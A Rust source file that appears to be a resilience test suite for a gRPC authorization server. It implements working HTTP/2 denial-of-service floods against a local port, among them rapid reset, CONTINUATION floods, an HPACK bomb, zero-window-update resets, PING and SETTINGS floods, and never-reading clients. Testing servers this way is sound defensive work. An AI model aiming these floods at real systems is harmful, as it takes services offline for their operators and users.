//! Floods over one connection at a time: frames and calls, as many as it takes. Whenever the server
//! closes the connection, the attack continues over the next one.

use std::io::{Read, Write};
use std::net::{Shutdown, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicI64, Ordering::SeqCst};
use std::thread;
use std::time::Duration;

use customs_test_support::audited_server::check;
use customs_test_support::http2::{
    ACK, CONTINUATION, Call, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, literal, message, take_frame, text,
};
use prost::Message;

use super::Attack;

/// How many bytes of DATA a client may send before it is given room for more.
const FIRST_WINDOW: i64 = 65_535;

/// How a flood is sent.
struct Flood {
    /// After the preface: settings, and what the flood is about.
    opening: Vec<u8>,
    /// Whether the client reads what it is sent.
    reads: bool,
}

impl Flood {
    fn after(opening: impl Into<Vec<u8>>) -> Flood {
        Flood {
            opening: opening.into(),
            reads: true,
        }
    }

    /// Sends what `next` returns for each number from 0, with the number of bytes of DATA in it,
    /// which flow control bounds.
    fn send(&self, attack: &Attack, mut next: impl FnMut(u32) -> (Vec<u8>, i64)) {
        while !attack.is_over() {
            let Ok(stream) = TcpStream::connect(("127.0.0.1", attack.port)) else {
                attack.cut();
                thread::sleep(Duration::from_millis(10));
                continue;
            };
            if self.send_over(stream, attack, &mut next) {
                attack.cut();
            }
        }
    }

    /// Returns whether the server has closed the connection.
    fn send_over(
        &self,
        mut stream: TcpStream,
        attack: &Attack,
        next: &mut impl FnMut(u32) -> (Vec<u8>, i64),
    ) -> bool {
        let (window, is_closed) = (AtomicI64::new(FIRST_WINDOW), AtomicBool::new(false));
        let pause = Duration::from_millis(1);
        let settings = frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 0, 0]);
        let begin = [PREFACE, &settings, &self.opening].concat();
        let _ = stream.set_write_timeout(Some(Duration::from_millis(100)));
        let mut reader = stream.try_clone().unwrap();
        thread::scope(|scope| {
            if self.reads {
                scope.spawn(|| {
                    let _ = read(&mut reader, &window);
                    is_closed.store(true, SeqCst);
                });
            }
            let mut pending = begin;
            let mut number = 0;
            while !attack.is_over() && !is_closed.load(SeqCst) {
                if pending.is_empty() {
                    let (bytes, cost) = next(number);
                    if window.load(SeqCst) < cost {
                        // The same part is made again once there is room for it.
                        thread::sleep(pause);
                        continue;
                    }
                    window.fetch_sub(cost, SeqCst);
                    number += 1;
                    pending = bytes;
                }
                match stream.write(&pending) {
                    Ok(count) => drop(pending.drain(..count)),
                    Err(why) if why.kind() == std::io::ErrorKind::WouldBlock => {}
                    Err(_) => is_closed.store(true, SeqCst),
                }
            }
            let is_cut = is_closed.load(SeqCst);
            let _ = stream.shutdown(Shutdown::Both);
            is_cut
        })
    }
}

/// Reads until the end, answers settings, and adds up the room that the server gives.
fn read(stream: &mut TcpStream, window: &AtomicI64) -> std::io::Result<()> {
    let (mut read, mut more) = (Vec::new(), vec![0; 64 << 10]);
    loop {
        match stream.read(&mut more)? {
            0 => return Ok(()),
            count => read.extend(&more[..count]),
        }
        while let Some((kind, flags, of, payload)) = take_frame(&mut read) {
            match kind {
                SETTINGS if flags & ACK == 0 => stream.write_all(&frame(SETTINGS, ACK, 0, &[]))?,
                WINDOW_UPDATE if of == 0 => {
                    let room = u32::from_be_bytes(payload[..4].try_into().unwrap());
                    window.fetch_add(room.into(), SeqCst);
                }
                customs_test_support::http2::GOAWAY => return Ok(()),
                _ => {}
            }
        }
    }
}

/// The same bytes again and again.
fn repeat(attack: &Attack, flood: &Flood, unit: &[u8], times: usize) {
    let bytes = unit.repeat(times);
    flood.send(attack, |_| (bytes.clone(), 0));
}

/// As many calls a part, each made from the number of its stream, with its bytes of DATA.
fn calls(attack: &Attack, flood: &Flood, part: u32, call: impl Fn(u32) -> (Vec<u8>, usize)) {
    flood.send(attack, |number| {
        let (mut bytes, mut cost) = (Vec::new(), 0);
        for stream in number * part..(number + 1) * part {
            let (frames, data) = call(2 * stream + 3);
            bytes.extend(frames);
            cost += i64::try_from(data).unwrap();
        }
        (bytes, cost)
    });
}

fn settings(pairs: &[(u16, u32)]) -> Vec<u8> {
    let pairs = pairs.iter();
    let payload: Vec<u8> = pairs
        .flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat())
        .collect();
    frame(SETTINGS, 0, 0, &payload)
}

/// The setting of the window of each call.
const WINDOW: u16 = 4;

fn room_for_answers() -> Vec<u8> {
    let room = (1_u32 << 30).to_be_bytes();
    [
        settings(&[(WINDOW, 1 << 30)]),
        frame(WINDOW_UPDATE, 0, 0, &room),
    ]
    .concat()
}

fn open(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &Call::default().head())
}

fn denied_check() -> Vec<u8> {
    message(&check("www.aliyun.com").encode_to_vec())
}

/// A whole check, with its bytes of DATA.
fn whole(stream: u32, body: &[u8]) -> (Vec<u8>, usize) {
    let frames = [open(stream), frame(DATA, END_STREAM, stream, body)].concat();
    (frames, body.len())
}

pub(super) fn rapid_reset(attack: &Attack) {
    calls(attack, &Flood::after([]), 400, |stream| {
        let reset = frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]);
        ([open(stream), reset].concat(), 0)
    });
}

pub(super) fn rapid_reset_of_checks(attack: &Attack) {
    let body = denied_check();
    calls(attack, &Flood::after([]), 50, |stream| {
        let (frames, cost) = whole(stream, &body);
        let reset = frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]);
        ([frames, reset].concat(), cost)
    });
}

/// A window update of zero makes the server reset the call.
pub(super) fn made_you_reset(attack: &Attack) {
    let body = denied_check();
    calls(attack, &Flood::after([]), 50, |stream| {
        let (frames, cost) = whole(stream, &body);
        let mistake = frame(WINDOW_UPDATE, 0, stream, &[0; 4]);
        ([frames, mistake].concat(), cost)
    });
}

pub(super) fn continuation(attack: &Attack) {
    let more = literal("x-a", &"y".repeat(1000)).repeat(8);
    let flood = Flood::after(frame(HEADERS, 0, 1, &Call::default().head()));
    repeat(attack, &flood, &frame(CONTINUATION, 0, 1, &more), 20);
}

pub(super) fn empty_continuation(attack: &Attack) {
    let flood = Flood::after(frame(HEADERS, 0, 1, &Call::default().head()));
    repeat(attack, &flood, &frame(CONTINUATION, 0, 1, &[]), 2000);
}

pub(super) fn empty_data(attack: &Attack) {
    repeat(
        attack,
        &Flood::after(open(1)),
        &frame(DATA, 0, 1, &[]),
        4000,
    );
}

/// One message that arrives in frames of this size.
fn message_in_frames(attack: &Attack, of: usize) {
    let body = message(&vec![b'x'; 3 << 20]);
    let part = 4000 / of;
    let parts = body.len() / (part * of);
    Flood::after([]).send(attack, |number| {
        let number = usize::try_from(number).unwrap();
        let (call, at) = (number / parts, number % parts * part * of);
        let stream = u32::try_from(2 * call + 1).unwrap();
        let mut bytes = if at == 0 { open(stream) } else { Vec::new() };
        for chunk in body[at..at + part * of].chunks(of) {
            bytes.extend(frame(DATA, 0, stream, chunk));
        }
        (bytes, i64::try_from(part * of).unwrap())
    });
}

pub(super) fn tiny_data(attack: &Attack) {
    message_in_frames(attack, 16);
}

pub(super) fn small_data(attack: &Attack) {
    message_in_frames(attack, 256);
}

/// One long header in the table of the connection, and calls that refer to it thousands of times.
pub(super) fn hpack_bomb(attack: &Attack) {
    let long = [&[0x40][..], &text("x"), &text(&"y".repeat(3900))].concat();
    let head = Call::default().head();
    let fill = frame(HEADERS, END_HEADERS, 1, &[&head[..], &long].concat());
    let block = [&head[..], &[0xbe; 8000]].concat();
    // The table is kept as large as it is by default.
    let flood = Flood {
        opening: [settings(&[(1, 4096)]), fill].concat(),
        reads: true,
    };
    calls(attack, &flood, 20, |stream| {
        (frame(HEADERS, END_HEADERS | END_STREAM, stream, &block), 0)
    });
}

pub(super) fn ping(attack: &Attack) {
    repeat(
        attack,
        &Flood::after([]),
        &frame(PING, 0, 0, b"customs!"),
        4000,
    );
}

pub(super) fn ping_unread(attack: &Attack) {
    let flood = Flood {
        opening: Vec::new(),
        reads: false,
    };
    repeat(attack, &flood, &frame(PING, 0, 0, b"customs!"), 4000);
}

pub(super) fn settings_with_values(attack: &Attack) {
    repeat(
        attack,
        &Flood::after([]),
        &settings(&[(WINDOW, 65_535)]),
        4000,
    );
}

pub(super) fn empty_settings(attack: &Attack) {
    repeat(attack, &Flood::after([]), &settings(&[]), 4000);
}

pub(super) fn window_update(attack: &Attack) {
    let unit = frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]);
    repeat(attack, &Flood::after([]), &unit, 4000);
}

pub(super) fn window_update_of_a_call(attack: &Attack) {
    let unit = frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]);
    repeat(attack, &Flood::after(open(1)), &unit, 4000);
}

pub(super) fn priority(attack: &Attack) {
    let unit = frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 7]);
    repeat(attack, &Flood::after([]), &unit, 4000);
}

pub(super) fn unknown_frames(attack: &Attack) {
    repeat(
        attack,
        &Flood::after([]),
        &frame(0xba, 0, 0, &[b'x'; 64]),
        2000,
    );
}

pub(super) fn unfinished(attack: &Attack) {
    let more: Vec<u8> = (0..12)
        .flat_map(|n| literal(&format!("x-{n}"), &"v".repeat(1000)))
        .collect();
    let head = [Call::default().head(), more].concat();
    calls(attack, &Flood::after([]), 50, |stream| {
        (frame(HEADERS, END_HEADERS, stream, &head), 0)
    });
}

pub(super) fn unfinished_small(attack: &Attack) {
    calls(attack, &Flood::after([]), 400, |stream| (open(stream), 0));
}

/// Calls of another method, each with this message.
fn calls_of(attack: &Attack, path: &str, body: &[u8], flags: u8) {
    let call = Call {
        path,
        ..Call::default()
    };
    let (head, body) = (call.head(), message(body));
    calls(
        attack,
        &Flood::after(settings(&[(WINDOW, 0)])),
        50,
        |stream| {
            let frames = [
                frame(HEADERS, END_HEADERS, stream, &head),
                frame(DATA, flags, stream, &body),
            ];
            (frames.concat(), body.len())
        },
    );
}

pub(super) fn health_watches(attack: &Attack) {
    calls_of(attack, "/grpc.health.v1.Health/Watch", &[], END_STREAM);
}

pub(super) fn reflection(attack: &Attack) {
    let name = b"envoy.service.auth.v3.Authorization";
    let ask = [&[0x22, u8::try_from(name.len()).unwrap()][..], name].concat();
    let path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
    calls_of(attack, path, &ask, 0);
}

pub(super) fn no_window(attack: &Attack) {
    let body = denied_check();
    let flood = Flood::after(settings(&[(WINDOW, 0)]));
    calls(attack, &flood, 50, |stream| whole(stream, &body));
}

pub(super) fn never_reads(attack: &Attack) {
    let body = denied_check();
    let flood = Flood {
        opening: room_for_answers(),
        reads: false,
    };
    calls(attack, &flood, 50, |stream| whole(stream, &body));
}

pub(super) fn checks(attack: &Attack) {
    let body = denied_check();
    let flood = Flood::after(room_for_answers());
    calls(attack, &flood, 50, |stream| whole(stream, &body));
}

/// Messages that claim so many bytes and get as many, or all but the last ones, in turn plain and
/// compressed if that is asked for.
fn messages(attack: &Attack, claimed: u32, sent: usize, compressed: bool) {
    let part = vec![b'x'; 16_000];
    let parts = sent / part.len() + 1;
    Flood::after([]).send(attack, |number| {
        let number = usize::try_from(number).unwrap();
        let stream = u32::try_from(2 * (number / parts) + 1).unwrap();
        let mut bytes = Vec::new();
        if number % parts == 0 {
            let flag = u8::from(compressed && stream % 4 == 1);
            let prefix = [&[flag][..], &claimed.to_be_bytes()].concat();
            bytes = [open(stream), frame(DATA, 0, stream, &prefix)].concat();
        }
        bytes.extend(frame(DATA, 0, stream, &part));
        (bytes, i64::try_from(part.len() + 5).unwrap())
    });
}

pub(super) fn too_large_messages(attack: &Attack) {
    messages(attack, 5 << 20, 5 << 20, true);
}

pub(super) fn unfinished_messages(attack: &Attack) {
    messages(attack, 4 << 20, (4 << 20) - 20_000, false);
}

pub(super) fn garbage(attack: &Attack) {
    let noise: Vec<Vec<u8>> = (0..64_u64)
        .map(|seed| {
            let byte = |n: u64| ((seed * 7919 + n * n * 104_729) >> 3).to_le_bytes()[0];
            message(&(0..300).map(byte).collect::<Vec<_>>())
        })
        .collect();
    let flood = Flood::after(room_for_answers());
    calls(attack, &flood, 50, |stream| {
        whole(stream, &noise[usize::try_from(stream / 2).unwrap() % 64])
    });
}
